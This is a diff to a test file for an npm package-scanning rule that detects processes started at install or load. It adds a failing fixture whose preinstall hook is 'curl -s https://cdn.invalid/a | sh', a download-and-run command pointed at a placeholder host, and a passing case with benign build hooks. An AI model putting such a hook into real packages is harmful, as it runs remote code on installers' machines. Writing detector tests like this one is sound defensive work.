@@ -79,8 +79,30 @@ export const childProcessAtLoad: Rule = defineRule({
         },
       ],
     },
+    {
+      title: 'a hook whose own text downloads and runs',
+      before: {},
+      after: { 'package.json': { scripts: { preinstall: 'curl -s https://cdn.invalid/a | sh' } } },
+      expect: [
+        {
+          kind: 'disguised',
+          message: 'npm (preinstall) starts "curl -s https://cdn.invalid/a | sh"',
+          at: { in: 'tarball', path: 'package.json', line: 5 },
+          via: ['scripts/preinstall'],
+        },
+      ],
+    },
   ],
   passes: [
+    {
+      title: 'hooks that compile, or start a module of the package by node -e',
+      before: { 'index.js': '' },
+      after: {
+        'package.json': { scripts: { install: 'node-gyp rebuild', postinstall: `node -e "require('./done')"` } },
+        'index.js': '',
+        'done.js': '',
+      },
+    },
     {
       title: 'a program started by a function that users call, and one started by the command line tool',
       before: { 'package.json': { bin: 'cli.js' }, 'index.js': '', 'cli.js': '' },
